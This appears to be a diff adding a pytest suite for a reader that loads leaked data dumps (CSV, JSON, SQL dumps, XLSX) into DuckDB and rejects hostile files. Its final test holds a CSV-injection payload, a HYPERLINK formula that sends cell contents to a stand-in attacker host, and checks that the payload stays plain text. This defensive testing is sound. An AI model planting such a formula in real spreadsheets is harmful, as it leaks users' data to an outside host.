@@ -1,0 +1,223 @@
+"""Reading what really circulates, and surviving what is hostile."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import duckdb
+import pytest
+from openpyxl import Workbook
+
+from vigie.errors import InvalidInput
+from vigie.leaks import sources
+from vigie.leaks.sources import Reader
+
+ROWS = [
+    ["Dupré", "Zoë", "12/03/1990", "06 12 34 56 78", "zoe.dupre@example.org"],
+    ["N'Diaye", "Aïssatou", "01/02/1985", "+33 7 11 22 33 44", "a.ndiaye@mail.example"],
+    ["Œuvray", "Hélène", "1999-12-31", "0033612345679", "h.oeuvray@example.net"],
+]
+HEADER = ["Nom", "Prénom", "date_naiss", "tel", "courriel"]
+
+
+def _read(tmp_path: Path, path: Path) -> tuple[Reader, list[list[str | None]]]:
+    con = duckdb.connect()
+    reader = Reader(con, tmp_path)
+    found = reader.read(path)
+    assert len(found) == 1
+    src = found[0]
+    cols = ", ".join(f"c{i}" for i in range(len(src.headers)))
+    rows = [
+        list(r) for r in con.execute(f"SELECT {cols} FROM {src.table} ORDER BY _line").fetchall()
+    ]
+    return reader, rows
+
+
+def _csv(rows: list[list[str]], delimiter: str, quote_all: bool = False) -> str:
+    def cell(v: str) -> str:
+        if quote_all or delimiter in v or '"' in v:
+            return '"' + v.replace('"', '""') + '"'
+        return v
+
+    return "".join(delimiter.join(cell(v) for v in row) + "\r\n" for row in rows)
+
+
+@pytest.mark.parametrize("delimiter", [";", ",", "\t", "|"])
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1"])
+def test_csv_any_delimiter_and_encoding(tmp_path: Path, delimiter: str, encoding: str) -> None:
+    rows = ROWS if encoding != "latin-1" else [[v.replace("Œ", "Oe") for v in r] for r in ROWS]
+    path = tmp_path / "dump.csv"
+    path.write_bytes(_csv([HEADER, *rows], delimiter).encode(encoding))
+    reader, got = _read(tmp_path, path)
+    assert got == rows
+    assert reader.sources[0].headers == HEADER
+    assert reader.rejected.count == 0
+
+
+def test_csv_quoted_fields_with_delimiters_and_newlines(tmp_path: Path) -> None:
+    rows = [["Dupont; Jean", 'il a dit "oui"', "ligne\nsuivante", "x", "y"]]
+    path = tmp_path / "q.csv"
+    path.write_text(_csv([HEADER, *rows], ";", quote_all=True), encoding="utf-8")
+    _reader, got = _read(tmp_path, path)
+    assert got == rows
+
+
+def test_mojibake_is_repaired(tmp_path: Path) -> None:
+    text = _csv([HEADER, *ROWS], ";")
+    path = tmp_path / "moji.csv"
+    path.write_bytes(text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8"))
+    _reader, got = _read(tmp_path, path)
+    assert got[0][1] == "Zoë" and got[2][1] == "Hélène"
+
+
+def test_rows_that_do_not_parse_are_counted_and_sampled(tmp_path: Path) -> None:
+    path = tmp_path / "bad.csv"
+    path.write_text("a;b;c\n1;2;3\n4;5\n6;7;8;9\n10;11;12\n", encoding="utf-8")
+    reader, got = _read(tmp_path, path)
+    assert got == [["1", "2", "3"], ["10", "11", "12"]]
+    assert reader.rejected.count == 2
+    assert [s["line"] for s in reader.rejected.samples] == [3, 4]
+
+
+def test_headerless_csv_is_typed_by_position(tmp_path: Path) -> None:
+    path = tmp_path / "nohead.csv"
+    path.write_text(_csv(ROWS, ";"), encoding="utf-8")
+    reader, got = _read(tmp_path, path)
+    assert got == ROWS
+    assert reader.sources[0].headers[0] == "column 1"
+
+
+def test_json_array_object_and_lines(tmp_path: Path) -> None:
+    records = [dict(zip(HEADER, r, strict=True)) for r in ROWS]
+    for name, text in [
+        ("a.json", json.dumps(records, ensure_ascii=False)),
+        ("b.json", json.dumps({"meta": 1, "data": records}, ensure_ascii=False)),
+        ("c.jsonl", "\n".join(json.dumps(r, ensure_ascii=False) for r in records) + "\n{oops\n"),
+    ]:
+        path = tmp_path / name
+        path.write_text(text, encoding="utf-8")
+        reader, got = _read(tmp_path, path)
+        assert got == ROWS, name
+        assert reader.rejected.count == (1 if name == "c.jsonl" else 0)
+
+
+def test_mysqldump_inserts(tmp_path: Path) -> None:
+    dump = """-- MySQL dump
+CREATE TABLE `beneficiaires` (
+  `id` int NOT NULL,
+  `nom` varchar(100) DEFAULT NULL,
+  `prenom` varchar(100),
+  `courriel` varchar(254),
+  PRIMARY KEY (`id`)
+) ENGINE=InnoDB;
+INSERT INTO `beneficiaires` VALUES (1,'Dupr\\'e','Zoë','zoe@example.org'),
+(2,'N''Diaye',NULL,'a@example.org');
+INSERT INTO `beneficiaires` VALUES (3,'Broken','x'
+"""
+    path = tmp_path / "dump.sql"
+    path.write_text(dump, encoding="utf-8")
+    reader, got = _read(tmp_path, path)
+    assert reader.sources[0].headers == ["id", "nom", "prenom", "courriel"]
+    assert got == [
+        ["1", "Dupr'e", "Zoë", "zoe@example.org"],
+        ["2", "N'Diaye", None, "a@example.org"],
+    ]
+    assert reader.rejected.count == 1
+
+
+def test_pg_dump_copy_block(tmp_path: Path) -> None:
+    dump = (
+        "COPY public.people (nom, prenom, tel) FROM stdin;\n"
+        "Dupont\tJean\t06 12 34 56 78\n"
+        "Martin\t\\N\t+33 7 00 00 00 01\n"
+        "\\.\n"
+        "INSERT INTO public.other (a, b) VALUES ('x', 'y');\n"
+    )
+    path = tmp_path / "pg.sql"
+    path.write_text(dump, encoding="utf-8")
+    con = duckdb.connect()
+    reader = Reader(con, tmp_path)
+    found = reader.read(path)
+    assert [s.name for s in found] == ["pg.sql:other", "pg.sql:people"]
+    people = found[1]
+    assert con.execute(f"SELECT c0, c1, c2 FROM {people.table} ORDER BY _line").fetchall() == [
+        ("Dupont", "Jean", "06 12 34 56 78"),
+        ("Martin", None, "+33 7 00 00 00 01"),
+    ]
+
+
+def test_xlsx(tmp_path: Path) -> None:
+    import datetime as dt
+
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(HEADER)
+    sheet.append(["Dupré", "Zoë", dt.date(1990, 3, 12), "06 12 34 56 78", "zoe@example.org"])
+    sheet.append(["Martin", "Léa", dt.datetime(1985, 2, 1), 612345678, "lea@example.org"])
+    path = tmp_path / "dump.xlsx"
+    book.save(path)
+    _reader, got = _read(tmp_path, path)
+    assert got == [
+        ["Dupré", "Zoë", "1990-03-12", "06 12 34 56 78", "zoe@example.org"],
+        ["Martin", "Léa", "1985-02-01", "612345678", "lea@example.org"],
+    ]
+
+
+# -- hostile input -------------------------------------------------------------------------
+
+
+def test_binary_junk_is_refused_clearly(tmp_path: Path) -> None:
+    path = tmp_path / "junk.csv"
+    path.write_bytes(bytes(range(256)) * 64)
+    with pytest.raises(InvalidInput, match=r"junk\.csv: not a text"):
+        Reader(duckdb.connect(), tmp_path).read(path)
+
+
+def test_fake_xlsx_is_refused_clearly(tmp_path: Path) -> None:
+    path = tmp_path / "fake.xlsx"
+    path.write_bytes(b"PK\x03\x04" + b"\x00garbage" * 100)
+    with pytest.raises(InvalidInput, match=r"fake\.xlsx: not a readable XLSX"):
+        Reader(duckdb.connect(), tmp_path).read(path)
+
+
+def test_empty_and_missing_files(tmp_path: Path) -> None:
+    (tmp_path / "empty.csv").write_bytes(b"  \n")
+    with pytest.raises(InvalidInput, match="empty"):
+        Reader(duckdb.connect(), tmp_path).read(tmp_path / "empty.csv")
+    with pytest.raises(InvalidInput, match="no such file"):
+        Reader(duckdb.connect(), tmp_path).read(tmp_path / "absent.csv")
+
+
+def test_invalid_json_says_where(tmp_path: Path) -> None:
+    path = tmp_path / "bad.json"
+    path.write_text('[{"a": 1},\n {"a": }]', encoding="utf-8")
+    with pytest.raises(InvalidInput, match=r"bad\.json: invalid JSON at line 2"):
+        Reader(duckdb.connect(), tmp_path).read(path)
+
+
+def test_giant_line_is_rejected_with_bounded_memory(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Small limits so the test is fast; the logic is the same as for a 1 GB line.
+    monkeypatch.setattr(sources, "MAX_LINE_CHARS", 10_000)
+    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
+    path = tmp_path / "long.csv"
+    with path.open("w", encoding="utf-8") as f:
+        f.write("nom;prenom\nDupont;Jean\n")
+        f.write("x" * 100_000 + "\n")
+        f.write("Martin;Léa\n")
+    reader, got = _read(tmp_path, path)
+    assert got == [["Dupont", "Jean"], ["Martin", "Léa"]]
+    assert reader.rejected.count == 1
+    assert "longer than" in reader.rejected.samples[0]["reason"]
+    assert len(reader.rejected.samples[0]["excerpt"]) <= sources.EXCERPT_CHARS
+
+
+def test_csv_injection_payloads_are_kept_as_text(tmp_path: Path) -> None:
+    payload = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
+    path = tmp_path / "inj.csv"
+    path.write_text(_csv([["nom", "prenom"], [payload, "@SUM(1+1)"]], ";"), encoding="utf-8")
+    _reader, got = _read(tmp_path, path)
+    assert got == [[payload, "@SUM(1+1)"]]
